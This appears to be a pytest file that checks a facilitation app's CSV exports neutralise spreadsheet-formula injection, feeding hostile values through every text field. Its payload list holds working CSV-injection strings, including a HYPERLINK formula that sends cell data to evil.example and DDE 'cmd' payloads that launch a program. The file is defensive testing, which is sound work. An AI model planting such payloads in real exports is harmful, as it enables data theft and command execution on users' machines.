"""Spreadsheet formulas never reach a CSV alive, whichever text field carries them.

OWASP's CSV-injection guidance: no cell may begin with ``=``, ``+``, ``-``, ``@``,
a tab, a carriage return or a line feed, and quotes and separators must not let a
cell begin with one either. Payloads go in through every text field that reaches
a CSV: the facilitator's practice labels, participants' vision words, the
editable content (feedback statements, check-in labels, practice labels, as a
facilitator's copies in ``$FACILITATE_HOME/data``) and, for the event log, every
public field of every event kind. Then every cell of every file written is checked.
"""

from __future__ import annotations

import csv
import dataclasses
import re
from importlib.resources import files
from pathlib import Path

import pytest
import yaml

from facilitate.activities.alignment.controls import AlignmentControls
from facilitate.activities.alignment.events import PracticeAdded, PracticeRated
from facilitate.activities.alignment.participant import AlignmentActivity
from facilitate.activities.checkin.events import CheckinAnswered
from facilitate.activities.feedback.events import FeedbackContent, FeedbackSent
from facilitate.core.agenda import current_agenda
from facilitate.core.csv_file import FORMULA_STARTS, neutralise, write_table
from facilitate.core.events import ParticipantJoined
from facilitate.core.sessions import create_session
from facilitate.export import export_session
from facilitate.ui.contexts import ControlsContext, ParticipantContext

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=1+2";=1+2',
]
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
SRC = Path(__file__).resolve().parents[2] / "src" / "facilitate"


def test_neutralise_follows_owasp():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    assert neutralise("Letter grades") == "Letter grades"
    assert neutralise("it's -fine- in the middle") == "it's -fine- in the middle"
    assert neutralise(-0.5) == -0.5, "a number is not a formula"
    assert neutralise(None) is None


def test_cells_are_quoted_so_a_separator_cannot_start_a_new_cell(tmp_path):
    import pandas as pd

    path = write_table(
        pd.DataFrame({"=label": ['=1+2";=1+2', "=1+2'\" ;,=1+2"], "n": [1, -2]}),
        tmp_path / "t.csv",
    )
    assert path.read_text(encoding="utf-8").splitlines() == [
        '"\'=label","n"',
        '"\'=1+2"";=1+2","1"',  # OWASP's first example, byte for byte
        '"\'=1+2\'"" ;,=1+2","-2"',  # and its second
    ]


def test_every_csv_is_written_in_one_place():
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|DictWriter\(")
    found = [
        path.relative_to(SRC).as_posix()
        for path in SRC.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    # the committed sample district is made by code from fixed names, never typed text
    assert sorted(found) == ["activities/root_cause/sample.py", "core/csv_file.py"]


def every_public_text_field(payload: str) -> list[object]:
    """One event of every kind, with ``payload`` in every field it can hold."""
    events = []
    for cls in current_agenda().event_kinds.values():
        values: dict[str, object] = {}
        for field in dataclasses.fields(cls):
            kind = str(field.type)
            if kind.startswith("dict"):
                values[field.name] = {payload: 1}
            elif kind.startswith("list"):
                values[field.name] = [payload]
            elif kind.startswith("int"):
                values[field.name] = 1
            elif kind == "bool":
                values[field.name] = False
            else:
                values[field.name] = payload
        events.append(cls(**values))
    return events


@pytest.fixture
def hostile_content(tmp_path, monkeypatch):
    """Copies of the content whose statements and labels a hostile editor wrote."""
    home = tmp_path / "home"
    (home / "data").mkdir(parents=True)
    activities = "facilitate.activities"
    for package, name, change in (
        (
            "feedback",
            "feedback.yaml",
            lambda d: d["ratings"][0].update(statement=PAYLOADS[1]),
        ),
        (
            "checkin",
            "checkin.yaml",
            lambda d: d["choices"][0].update(label=PAYLOADS[2]),
        ),
        (
            "alignment",
            "practices.yaml",
            lambda d: d["practices"][0].update(label=PAYLOADS[3]),
        ),
    ):
        shipped = files(f"{activities}.{package}") / name
        data = yaml.safe_load(shipped.read_text(encoding="utf-8"))
        path = home / "data" / name
        change(data)
        path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    monkeypatch.setenv("FACILITATE_HOME", str(home))


def seed(store, session) -> None:
    """k people answer everything, with payloads wherever a person types."""
    code = session.code
    controls = AlignmentControls(ControlsContext(store, session))
    controls.new_label.value = PAYLOADS[0]
    controls.add_practice()
    added = store.read(code, kinds=[PracticeAdded.kind])
    assert added, controls.form_message.value
    practices = [added[0].event.practice, "letter_grades"]
    for index in range(6):
        who = f"p{index}"
        store.append(code, ParticipantJoined(who, who, "teacher"))
        store.append(code, CheckinAnswered(who, "energised"))
        for practice in practices:
            store.append(code, PracticeRated(who, practice, 2, 1, 5))
        view = AlignmentActivity(ParticipantContext(store, session, who))
        view.vision_text.value = f"{PAYLOADS[index % 4]} equity and joy"
        view.offer_vision()
        store.append_unlinked(
            code, FeedbackSent(who), FeedbackContent({"voice": 4}, PAYLOADS[0]), 3
        )
    for index, payload in enumerate(PAYLOADS):
        for event in every_public_text_field(payload):
            if getattr(event, "kind", "") != "session_created":
                store.append(code, event)
        store.append(code, ParticipantJoined(f"x{index}", payload, payload))


@pytest.mark.usefixtures("hostile_content")
def test_payloads_in_every_text_field_reach_no_csv_alive(store, tmp_path):
    session = create_session(store, "Hostile", min_group_size=3)
    seed(store, session)
    out = tmp_path / "out"
    export_session(
        store, session, store.path.parent, out, ["csv"], lambda _: None, True
    )
    cells = []
    for path in sorted(out.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            cells += [(path.name, cell) for row in csv.reader(handle) for cell in row]
    alive = [
        (name, cell)
        for name, cell in cells
        if cell.lstrip(" ").startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert alive == []
    texts = {cell for _, cell in cells}
    for payload in PAYLOADS[:4]:  # each reached a CSV, neutralised
        assert "'" + payload in texts, payload
    reached = {name for name, cell in cells if cell.startswith("'")}
    assert {
        "events.csv",
        "alignment-alignment_practices.csv",
        "feedback-feedback_ratings.csv",
        "checkin-checkin_counts.csv",
    } <= reached
